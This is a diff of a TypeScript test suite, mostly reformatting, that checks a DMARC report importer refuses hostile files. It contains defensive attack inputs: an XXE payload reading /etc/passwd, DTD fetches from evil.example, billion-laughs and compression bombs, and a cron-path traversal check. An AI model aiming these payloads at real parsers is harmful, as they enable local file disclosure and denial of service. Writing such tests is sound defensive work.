@@ -19,7 +19,8 @@ import { HOSTILE_DOMAINS, NON_UTF8 } from '../../hardening/hostile-values';
  * process keeps its memory, and a refused report leaves no row behind.
  */
 const GB = 1024 * 1024 * 1024;
-const good = (id: string, domain = 'acme.example') => reportXml({ reportId: id, domain, begin: '2025-03-01', rows: [{ ip: '198.51.100.10', count: 3, dkim: 'pass', spf: 'pass' }] });
+const good = (id: string, domain = 'acme.example') =>
+  reportXml({ reportId: id, domain, begin: '2025-03-01', rows: [{ ip: '198.51.100.10', count: 3, dkim: 'pass', spf: 'pass' }] });
 
 describe('hostile DMARC report files', () => {
   let s: ReturnType<typeof tempServices>;
@@ -65,11 +66,23 @@ describe('hostile DMARC report files', () => {
     await refused(file('laughs.xml', billionLaughs()), ['dmarc.dtd-forbidden'], 'billion laughs');
     const xxe = `<?xml version="1.0"?>\n<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>`;
     await refused(file('xxe.xml', xxe), ['dmarc.dtd-forbidden'], 'external entity');
-    await refused(file('xxe-param.xml', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><feedback/>`), ['dmarc.dtd-forbidden'], 'parameter entity');
-    await refused(file('doctype-public.xml', `<?xml version="1.0"?><!DOCTYPE feedback PUBLIC "-//X//EN" "http://evil.example/f.dtd"><feedback/>`), ['dmarc.dtd-forbidden'], 'public DTD');
+    await refused(
+      file('xxe-param.xml', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><feedback/>`),
+      ['dmarc.dtd-forbidden'],
+      'parameter entity',
+    );
+    await refused(
+      file('doctype-public.xml', `<?xml version="1.0"?><!DOCTYPE feedback PUBLIC "-//X//EN" "http://evil.example/f.dtd"><feedback/>`),
+      ['dmarc.dtd-forbidden'],
+      'public DTD',
+    );
     await refused(file('laughs.xml.gz', gzip(billionLaughs())), ['dmarc.dtd-forbidden'], 'billion laughs gzipped');
     await refused(file('laughs.zip', zipArchive([{ name: 'a.xml', data: billionLaughs() }])), ['dmarc.dtd-forbidden'], 'billion laughs zipped');
-    await refused(file('undeclared-entity.xml', good('U').replace('google.com', '&undeclared;')), /^dmarc\.(malformed-xml|not-a-report|invalid-report)$/, 'undeclared entity');
+    await refused(
+      file('undeclared-entity.xml', good('U').replace('google.com', '&undeclared;')),
+      /^dmarc\.(malformed-xml|not-a-report|invalid-report)$/,
+      'undeclared entity',
+    );
   });
 
   it('compression bombs, truncated and corrupt archives', async () => {
@@ -84,16 +97,28 @@ describe('hostile DMARC report files', () => {
     await refused(file('bad-crc.xml.gz', flipped), /^dmarc\.(corrupt-archive|truncated)$/, 'gzip with a bad CRC');
     const zip = zipArchive([{ name: 'r.xml', data: good('Z') }]);
     await refused(file('cut.zip', zip.subarray(0, zip.length - 30)), /^dmarc\.(truncated|corrupt-archive)$/, 'zip cut short');
-    await refused(file('many.zip', zipArchive(Array.from({ length: 150 }, (_, i) => ({ name: `r${i}.xml`, data: good(`M${i}`) })))), ['dmarc.too-many-entries'], 'zip with 150 entries');
+    await refused(
+      file('many.zip', zipArchive(Array.from({ length: 150 }, (_, i) => ({ name: `r${i}.xml`, data: good(`M${i}`) })))),
+      ['dmarc.too-many-entries'],
+      'zip with 150 entries',
+    );
     await refused(file('nested.zip', zipArchive([{ name: 'inner.zip', data: zipBomb(8) }])), /^dmarc\./, 'zip inside a zip');
-    await refused(file('gz-of-garbage.xml.gz', zlib.gzipSync(Buffer.from([0, 1, 2, 3, 0xff]))), /^dmarc\.(malformed-xml|not-a-report)$/, 'gzip of binary garbage');
+    await refused(
+      file('gz-of-garbage.xml.gz', zlib.gzipSync(Buffer.from([0, 1, 2, 3, 0xff]))),
+      /^dmarc\.(malformed-xml|not-a-report)$/,
+      'gzip of binary garbage',
+    );
     await refused(file('empty.xml', ''), /^dmarc\./, 'empty .xml');
     await refused(file('empty.xml.gz', Buffer.alloc(0)), /^dmarc\./, 'empty .xml.gz');
     await refused(file('empty.zip', Buffer.alloc(0)), /^dmarc\./, 'empty .zip');
     // Content is sniffed, not the name: a plain report saved as .gz imports (whole), which is what people want.
     cases++;
     expect(await importReports(s.db, [file('not-gzip.xml.gz', good('NG'))])).toMatchObject({ imported: 1, errors: [] });
-    await refused(file('bomb.eml', emlMessage([{ filename: 'b.xml.gz', contentType: 'application/gzip', data: gzipBomb(64) }])), ['dmarc.bomb'], 'e-mail with a gzip bomb');
+    await refused(
+      file('bomb.eml', emlMessage([{ filename: 'b.xml.gz', contentType: 'application/gzip', data: gzipBomb(64) }])),
+      ['dmarc.bomb'],
+      'e-mail with a gzip bomb',
+    );
   }, 120_000);
 
   it('non-UTF-8 bytes and hostile values inside a report', async () => {
@@ -101,19 +126,33 @@ describe('hostile DMARC report files', () => {
     // still not XML (the NUL of a UTF-16 "a") is refused as before.
     for (const { label, bytes } of NON_UTF8) {
       cases++;
-      const xml = Buffer.concat([Buffer.from(good(`NU-${label}`).split('google.com')[0]!), bytes, Buffer.from(good(`NU-${label}`).split('google.com').slice(1).join('google.com'))]);
+      const xml = Buffer.concat([
+        Buffer.from(good(`NU-${label}`).split('google.com')[0]!),
+        bytes,
+        Buffer.from(good(`NU-${label}`).split('google.com').slice(1).join('google.com')),
+      ]);
       const r = await importReports(s.db, [file(`nonutf8-${cases}.xml`, xml)]);
       if (bytes.includes(0)) {
-        expect(r.errors.map((e) => e.code), label).toEqual(['dmarc.malformed-xml']);
+        expect(
+          r.errors.map((e) => e.code),
+          label,
+        ).toEqual(['dmarc.malformed-xml']);
         continue;
       }
       expect(r.imported, label).toBe(1);
-      expect(r.repaired.map((n) => n.code), label).toContain('dmarc.repair.not-utf8');
+      expect(
+        r.repaired.map((n) => n.code),
+        label,
+      ).toContain('dmarc.repair.not-utf8');
       const { org } = s.db.prepare('SELECT org FROM dmarc_reports WHERE report_id = ?').get(`NU-${label}`) as { org: string };
       expect(org, label).toContain('\uFFFD');
     }
     await refused(file('nul.xml', good('NUL').replace('google.com', 'goo\u0000gle.com')), ['dmarc.malformed-xml'], 'NUL in a text node');
-    await refused(file('utf16.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16'), 'utf16le')])), /^dmarc\./, 'UTF-16 without a declaration');
+    await refused(
+      file('utf16.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16'), 'utf16le')])),
+      /^dmarc\./,
+      'UTF-16 without a declaration',
+    );
     const invalid: [string, string][] = [
       ['negative count', good('NEG').replace('<count>3</count>', '<count>-3</count>')],
       ['huge count', good('HUGE').replace('<count>3</count>', '<count>1e400</count>')],
@@ -125,14 +164,18 @@ describe('hostile DMARC report files', () => {
       ['two roots', good('R1') + good('R2').replace(/<\?xml[^>]*>/, '')],
       ['10 MB text node', good('BIG').replace('google.com', 'x'.repeat(10 * 1024 * 1024))],
     ];
-    for (const [label, xml] of invalid) await refused(file(`invalid-${cases}.xml`, xml), /^dmarc\.(invalid-report|malformed-xml|not-a-report|too-large|truncated)$/, label);
+    for (const [label, xml] of invalid)
+      await refused(file(`invalid-${cases}.xml`, xml), /^dmarc\.(invalid-report|malformed-xml|not-a-report|too-large|truncated)$/, label);
     // Hostile policy domains: refused or stored in the normalised form, never as given.
     for (const { label, value } of HOSTILE_DOMAINS) {
       cases++;
       const before = dumpLedger(s.db);
       const r = await importReports(s.db, [file(`domain-${cases}.xml`, good(`D-${cases}`, value.replace(/[<&]/g, '')))]);
       if (r.imported === 0) {
-        expect(r.errors.map((e) => e.code), label).not.toContain('dmarc.internal');
+        expect(
+          r.errors.map((e) => e.code),
+          label,
+        ).not.toContain('dmarc.internal');
         expect(dumpLedger(s.db), label).toBe(before);
       } else {
         const stored = (s.db.prepare(`SELECT domain FROM dmarc_reports ORDER BY rowid DESC LIMIT 1`).get() as { domain: string }).domain;
@@ -213,7 +256,13 @@ describe('hostile DMARC report files', () => {
     expect(fs.existsSync('/etc/cron.d/evil.xml')).toBe(false);
     expect(result!.errors.map((e) => e.code)).not.toContain('dmarc.internal');
     expect(result!.errors.length).toBe(5);
-    for (const bad of [{ files: [] }, { files: [{ name: '', base64: '' }] }, { files: 'x' }, { files: Array.from({ length: 501 }, () => ({ name: 'a.xml', base64: '' })) }, { files: [{ name: 'y'.repeat(256), base64: '' }] }]) {
+    for (const bad of [
+      { files: [] },
+      { files: [{ name: '', base64: '' }] },
+      { files: 'x' },
+      { files: Array.from({ length: 501 }, () => ({ name: 'a.xml', base64: '' })) },
+      { files: [{ name: 'y'.repeat(256), base64: '' }] },
+    ]) {
       cases++;
       expect(expectEnvelope(await dispatch('dmarc.importFiles', bad), 'bad importFiles').ok).toBe(false);
     }
